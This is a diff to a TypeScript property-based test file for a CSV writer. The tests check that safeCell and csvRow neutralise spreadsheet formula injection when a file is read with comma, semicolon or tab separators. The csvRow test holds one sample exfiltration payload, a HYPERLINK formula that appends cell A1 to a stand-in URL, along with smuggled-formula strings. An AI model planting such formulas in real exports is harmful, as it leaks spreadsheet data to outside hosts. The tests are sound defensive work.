@@ -37,7 +37,7 @@ describe('readCsv', () => {
   })
 
   it('reads what csvRow has written', () => {
-    const cell = fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', "'", '=', 'ש', '🦊') })
+    const cell = fc.string({ unit: fc.constantFrom('a', ',', ';', '\t', '"', '\r', '\n', ' ', "'", '=', 'ש', '🦊') })
     const rows = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 })
     fc.assert(
       fc.property(rows, (written) => {
@@ -60,16 +60,42 @@ describe('readCsv', () => {
   })
 })
 
-describe('safeCell', () => {
-  it.each(['=1+1', '+1', '-1', '@anna', '\t=1', "'=1"])('marks %j', (text) => expect(safeCell(text)).toBe(`'${text}`))
-  it.each(['fog', '', "'fog'", "don't", 'a = b'])('leaves %j', (text) => expect(safeCell(text)).toBe(text))
+/** The cells of a row as a spreadsheet has them whose separator is another one: a quote counts at the start of a cell alone. */
+const cellsBy = (separator: string, row: string): string[] => {
+  const cells = row.split(separator === '\t' ? /[\t\r\n]/ : /[;\r\n]/)
+  return cells.map((cell) => cell.replace(/^[ "]*/, ''))
+}
 
-  it('is read again by plainCell', () => {
-    const text = fc.string({ unit: fc.constantFrom("'", '=', '-', '@', 'a') })
+describe('csvRow', () => {
+  it.each([';', '\t'])('quotes cells with %j, and leaves no formula in a part of one', (separator) => {
+    const text = `a fox${separator}=HYPERLINK("http://x.test/?"&A1${separator}"=1")`
+    const row = csvRow(['n', text].map(safeCell))
+    expect(row).toMatch(/^n,".*"\r\n$/)
+    for (const cell of cellsBy(separator, row)) expect(cell).not.toMatch(/^[=+\-@]/)
+  })
+})
+
+describe('safeCell', () => {
+  it.each(['=1+1', '+1', '-1', '@anna', '\t', "'=1", ' =1', '"=1', '＝1'])('marks %j', (text) =>
+    expect(safeCell(text)).toBe(`'${text}`),
+  )
+  it.each([
+    ['a;=1', "a;'=1"],
+    ['a;"=1"', 'a;\'"=1"'],
+    ['a\n-b', "a\n'-b"],
+    ['\t=1', "'\t'=1"],
+  ])('marks each part of %j', (text, marked) => expect(safeCell(text)).toBe(marked))
+  it.each(['fog', '', "'fog'", "don't", 'a = b', 'a; b'])('leaves %j', (text) => expect(safeCell(text)).toBe(text))
+
+  it('is read again by plainCell, and leaves no formula at the start of a cell of any separator', () => {
+    const text = fc.string({ unit: fc.constantFrom("'", '"', '=', '-', '@', 'a', ' ', ';', '\t', '\r', '\n', ',') })
     fc.assert(
-      fc.property(text, (any) => {
-        expect(plainCell(safeCell(any))).toBe(any)
-        expect(safeCell(any)).not.toMatch(/^[=+\-@]/)
+      fc.property(text, text, (one, other) => {
+        expect(plainCell(safeCell(one))).toBe(one)
+        const row = csvRow([one, other].map(safeCell))
+        expect([...readCsv(row)].flat().map(plainCell)).toEqual([one, other])
+        for (const separator of [';', '\t'])
+          for (const cell of cellsBy(separator, row)) expect(cell).not.toMatch(/^[=+\-@]/)
       }),
     )
   })
